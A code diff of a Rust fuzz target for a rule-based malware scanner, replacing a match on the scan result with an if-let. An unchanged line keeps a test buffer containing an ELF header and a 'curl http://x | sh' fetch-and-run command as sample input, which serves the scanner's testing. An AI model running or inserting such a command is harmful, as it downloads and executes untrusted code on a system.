@@ -21,14 +21,11 @@ fuzz_target!(|data: &[u8]| {
         }
         Ok(rules) => {
             let buffer = b"\x7fELF\x02\x01\x01\x00 #!/bin/sh\ncurl http://x | sh\n";
-            match rules.scan(buffer, &Limits::default()) {
-                Ok(found) => {
-                    for m in found {
-                        assert_eq!(m.file, "fuzz.yar");
-                        assert!(text.contains(&m.rule), "{m:?}");
-                    }
+            if let Ok(found) = rules.scan(buffer, &Limits::default()) {
+                for m in found {
+                    assert_eq!(m.file, "fuzz.yar");
+                    assert!(text.contains(&m.rule), "{m:?}");
                 }
-                Err(_) => {}
             }
         }
     }
